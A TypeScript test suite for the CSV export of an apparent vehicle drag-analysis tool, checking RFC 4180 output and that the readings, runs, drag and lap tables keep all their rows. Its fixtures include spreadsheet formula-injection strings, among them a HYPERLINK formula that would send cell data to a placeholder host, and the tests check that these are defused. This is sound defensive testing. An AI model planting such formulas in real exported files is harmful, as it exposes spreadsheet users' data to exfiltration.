import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { csvText, readingTables, resultTables } from '@core/report'
import { textOfCell } from '@core/sheet'
import { analysed, demoExchange } from './demo'

/** Formulas behind what a sheet may skip or split at, and before what ends a line. */
function formulaTexts(): string[] {
  const before = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u200b', 'note;', 'note,', 'note\t', 'note|', 'note\r\n', 'note\u2028', '\'']
  const formula = ['=HYPERLINK("http://x/?"&A1;"y")', '+1+1', '-2+3', '@SUM(A1)', '＝1+1', '＋1', '－1', '＠x']
  const after = ['', '\n', '\r', '\u2028x', '\u2029x', '\nx']
  return before.flatMap((one, index) => formula.map((two, at) => `${one}${two}${after[(index + at) % after.length]}`))
}

const exchange = demoExchange()
const tables = [...readingTables(exchange), ...resultTables(exchange, analysed(exchange))]
const named = (fileName: string) => tables.find((each) => each.fileName === fileName)!
const parsed = (fileName: string) =>
  Papa.parse<Record<string, string>>(csvText(named(fileName)), { header: true, skipEmptyLines: true }).data

describe('tables', () => {
  it('follow RFC 4180: CR LF at each end, one head row, every row as wide, quotes doubled', () => {
    const text = csvText({ fileName: 'x.csv', heads: ['a', 'b, c'], rows: [['say "so"', 1.5], ['two\nlines', null]] })
    expect(text).toBe('"a","b, c"\r\n"say ""so""",1.5\r\n"two\nlines",\r\n')
    for (const { heads, rows } of tables) {
      expect(new Set(heads).size).toBe(heads.length)
      for (const row of rows) expect(row).toHaveLength(heads.length)
    }
  })

  it('defuse what a sheet would run, and leave numbers alone', () => {
    expect(csvText({ fileName: 'x.csv', heads: ['a', 'b'], rows: [['=1+1', -2], ['@x', 3]] }))
      .toBe('"a","b"\r\n"\'=1+1",-2\r\n"\'@x",3\r\n')
    expect(csvText({ fileName: 'x.csv', heads: ['a'], rows: [[Infinity], [NaN]] })).toBe('"a"\r\n\r\n\r\n')
  })

  it.each(formulaTexts())('defuse %j for a sheet that splits at any sign, and give it back', (text) => {
    const file = csvText({ fileName: 'x.csv', heads: ['a'], rows: [[text]] })
    const cells = (delimiter: string) => Papa.parse<string[]>(file, { delimiter, newline: '\r\n' }).data.flat()
    const split = [...cells(','), ...file.split(/[;,|\t\r\n\u0085\u2028\u2029]/)]
    expect(split.filter((cell) => /^"?[\s\u200b]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([])
    expect(textOfCell(cells(',')[1]!)).toBe(text)
  })

  it('give back every text, with apostrophes and signs of its own', () => {
    const pieces = fc.array(fc.constantFrom("'", '=', '-', ' ', ';', ',', '\r', '\n', '\t', 'a', '＝', '\u2028', '"'), { maxLength: 9 })
    fc.assert(fc.property(pieces, (signs) => {
      const text = signs.join('')
      const [, cell = ''] = Papa.parse<string[]>(csvText({ fileName: 'x.csv', heads: ['a'], rows: [[text]] }), { delimiter: ',', newline: '\r\n' }).data.flat()
      expect(textOfCell(cell)).toBe(text)
    }), { seed: 1, numRuns: 2000 })
  })

  it('hold every reading', () => {
    const readings = (kind: 'squat' | 'airflow') => exchange.sessions.flatMap((session) => (session.kind !== kind ? []
      : 'runs' in session ? session.runs.flatMap((run) => ('readings' in run ? run.readings : [])) : session.readings))
    expect(parsed('squat-readings.csv')).toHaveLength(readings('squat').length)
    expect(parsed('air-readings.csv')).toHaveLength(readings('airflow').length)
    expect(Number(parsed('squat-readings.csv')[0]!['shown/mm'])).toBe(readings('squat')[0]!.shownMm)
  })

  it('hold every coast and every reading of it', () => {
    const runs = exchange.sessions.flatMap((session) => (session.kind === 'coast' ? session.runs : []))
    const counts = runs.map(({ data }) => (data.kind === 'gates' ? data.gates : data.kind === 'speeds' ? data.readings : data.timesS).length)
    const rows = parsed('coast-readings.csv')
    expect(runs.length).toBeGreaterThan(0)
    expect(rows).toHaveLength(counts.reduce((sum, each) => sum + each, 0))
    const gated = runs.find(({ data }) => data.kind === 'gates')!
    const [, second] = rows.filter(({ run, read }) => run === gated.name && read === 'gates')
    if (gated.data.kind !== 'gates') throw new Error('no gates')
    expect(Number(second!['time/s'])).toBe(gated.data.gates[1]!.timeS)
    expect(Number(second!['distance/m'])).toBe(gated.data.gates[1]!.distanceMm.value / 1000)
  })

  it('tell the drag of each set-up and pair and the laps of each course, as the results have them', () => {
    const { costs } = analysed(exchange)
    const rows = parsed('drag.csv')
    expect(rows).toHaveLength(costs.setups.length)
    const [first] = costs.setups
    if (first!.cdaM2.statement.kind !== 'interval') throw new Error('no value')
    expect(Number(rows[0]!['CdA value/m2'])).toBe(first!.cdaM2.statement.value)
    expect(parsed('drag-differences.csv')).toHaveLength(costs.pairs.length)
    const laps = parsed('laps.csv')
    expect(laps).toHaveLength(costs.courses.flatMap(({ result }) => result?.outcomes ?? []).length)
    expect(new Set(laps.map((row) => row['lap says']))).toEqual(new Set(['value']))
    expect(Number(laps[0]!['lap low/s'])).toBeLessThan(Number(laps[0]!['lap high/s']))
  })

  it('never put a bound into the column of values', () => {
    const rows = parsed('runs.csv')
    const bounds = rows.filter((row) => row['load less control says'] === 'at least')
    expect(bounds.length).toBeGreaterThan(0)
    for (const row of bounds) {
      expect(row['load less control value/N']).toBe('')
      expect(row['load less control high/N']).toBe('')
      expect(Number(row['load less control low/N'])).toBeGreaterThan(0)
      expect(row['load less control why']).toBe('touchedGround')
    }
  })

  it('leave out what has no rows', () => {
    const bare = { ...exchange, sessions: [] }
    expect(readingTables(bare).map((each) => each.fileName)).toEqual(['loads.csv'])
    expect(resultTables(bare, analysed(bare)).map((each) => each.fileName)).toEqual(['constants.csv'])
  })
})
